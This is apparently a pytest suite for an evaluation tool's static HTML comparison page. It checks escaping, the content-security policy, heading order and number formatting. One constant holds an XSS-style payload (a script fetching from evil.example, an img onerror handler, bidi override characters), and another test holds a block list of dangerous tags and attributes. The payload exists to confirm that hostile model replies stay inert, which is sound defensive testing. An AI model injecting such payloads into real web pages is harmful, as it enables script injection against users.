"""The page as a file: whole, inert, the same bytes every time, and true to the comparison."""

import base64
import hashlib
import re
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from scripted_systems import always, lane_root, write_run

from adjudge.contract.printable import one_line
from adjudge.lanes.registry import BOUNDED_GRAMMAR, SYMBOLIC_EQUIVALENCE
from adjudge.scoring.comparison_view import view_lane
from adjudge.web.case_sections import MAX_SHOWN
from adjudge.web.comparison_page import NAVIGATION, policy, render_comparison
from adjudge.web.numbers import between, letter, percent, small

HOSTILE = (
    "</pre></details><script>fetch('//evil.example')</script><img src=x onerror=alert(1)>"
    "<style>*{display:none}</style>&lt;b&gt;\u202eEQUIVALENT\u2066\x00\x1b[2J<!--]]>"
)


class Page(HTMLParser):
    """The elements of a page, and the text between them."""

    def __init__(self, data: bytes) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text: list[str] = []
        self.feed(data.decode("utf-8"))
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        if tag not in ("meta", "br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag, f"</{tag}> closes something else"

    def handle_data(self, data):
        self.text.append(data)

    def values(self, attribute):
        return [attributes[attribute] for _, attributes in self.elements if attribute in attributes]


@pytest.fixture(scope="module")
def data(scripted_view):
    return render_comparison(scripted_view)


@pytest.fixture(scope="module")
def page(data):
    return Page(data)


def hostile_page(tmp_path, reply) -> tuple[bytes, Page]:
    lane = SYMBOLIC_EQUIVALENCE
    root = lane_root(tmp_path, lane)
    write_run(root, lane, "<b>&hostile", always(reply), limit=3, finish_reason="<i>stop")
    data = render_comparison(view_lane(root, lane))
    return data, Page(data)


def test_every_element_is_closed_and_every_id_and_link_has_its_other_end(page):
    assert page.open == []
    ids = page.values("id")
    assert len(ids) == len(set(ids))
    targets = set(page.values("href"))
    assert targets <= {f"#{name}" for name in ids}
    assert {f"#{name}" for name, _ in NAVIGATION} <= targets
    assert set(page.values("aria-labelledby")) <= set(ids)


def test_nothing_is_loaded_and_nothing_runs(page):
    names = {name for name, _ in page.elements}
    assert not names & {"script", "link", "img", "iframe", "object", "embed", "form", "base", "video", "use"}
    attributes = {name for _, found in page.elements for name in found}
    assert not any(name.startswith("on") for name in attributes)
    assert not attributes & {"src", "srcset", "style", "action", "background", "poster"}


def test_the_policy_names_the_one_style_sheet_by_digest(data, page):
    style = re.search(rb"<style>(.*?)</style>", data, re.DOTALL)[1]
    digest = base64.b64encode(hashlib.sha256(style).digest()).decode()
    (given,) = [found["content"] for name, found in page.elements if "http-equiv" in found]
    assert given == policy()
    assert given == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    assert b"url(" not in style
    assert b"@import" not in style


def test_headings_go_down_one_step_at_a_time(page):
    levels = [int(name[1]) for name, _ in page.elements if re.fullmatch("h[1-6]", name)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after <= before + 1 for before, after in pairwise(levels))


def test_the_same_comparison_gives_the_same_page(scripted_root, data):
    assert render_comparison(view_lane(scripted_root, SYMBOLIC_EQUIVALENCE)) == data


def test_every_system_and_every_differing_case_is_on_it(scripted_view, page):
    text = "".join(page.text)
    for run in scripted_view.comparison.head_to_head:
        assert f"{run.provider}/{run.model}, run {run.run}" in text
        assert f"{run.headline.correct} of 185 correct" in text
        assert run.responses_sha256 in text
    assert {f"case-{case.case.case_id}" for case in scripted_view.differing} <= set(page.values("id"))
    assert "partial: never ranked against complete runs" in text


def test_a_page_without_a_run_says_so(tmp_path):
    for lane in (SYMBOLIC_EQUIVALENCE, BOUNDED_GRAMMAR):
        page = Page(render_comparison(view_lane(lane_root(tmp_path / lane.name, lane), lane)))
        assert "No model was run on these cases yet." in page.text
        assert page.open == []


def test_a_hostile_reply_stays_text(tmp_path, page):
    data, hostile = hostile_page(tmp_path, HOSTILE)
    assert {name for name, _ in hostile.elements} <= {name for name, _ in page.elements} | {"span", "pre"}
    assert not any(name.startswith("on") for _, found in hostile.elements for name in found)
    assert b"<script" not in data
    assert data.count(b"<style>") == 1
    text = "".join(hostile.text)
    assert "<script>fetch('//evil.example')</script><img src=x onerror=alert(1)>" in text
    assert "scripted/<b>&hostile" in text
    assert "<i>stop" in text
    assert one_line(text.replace("\n", "").replace("\u202f", " ").replace("\u00a0", " ")) == text.replace(
        "\n", ""
    ).replace("\u202f", " ").replace("\u00a0", " "), "an invisible character is on the page"


def test_a_reply_of_a_million_characters_is_cut_and_named_by_its_digest(tmp_path):
    reply = "<b>\u202e" * (1 << 18)
    data, page = hostile_page(tmp_path, reply)
    text = "".join(page.text)
    assert f"The first {MAX_SHOWN} of {1 << 20} characters." in text
    assert hashlib.sha256(reply.encode()).hexdigest() in text
    assert len(data) < 3 * 50 * MAX_SHOWN


@pytest.mark.parametrize(
    ("rate", "shown"), [("0.999999", "99.9\u00a0%"), ("1.000000", "100.0\u00a0%"), ("0.000999", "0.0\u00a0%")]
)
def test_a_percentage_is_cut_never_rounded_up(rate, shown):
    assert percent(rate) == shown


def test_figures_are_rounded_to_the_careful_side(scripted_view):
    for run in scripted_view.comparison.head_to_head:
        if run.headline.interval is not None:
            low, _, high = between(run.headline.interval).partition(" to ")
            assert float(low.rstrip("\u00a0%")) <= 100 * float(run.headline.interval.low)
            assert float(high.rstrip("\u00a0%")) >= 100 * float(run.headline.interval.high)
    assert small("0.000001") == "at most 0.000001"
    assert [letter(place) for place in (0, 25, 26, 51, 52, 701, 702)] == [
        "A",
        "Z",
        "AA",
        "AZ",
        "BA",
        "ZZ",
        "AAA",
    ]
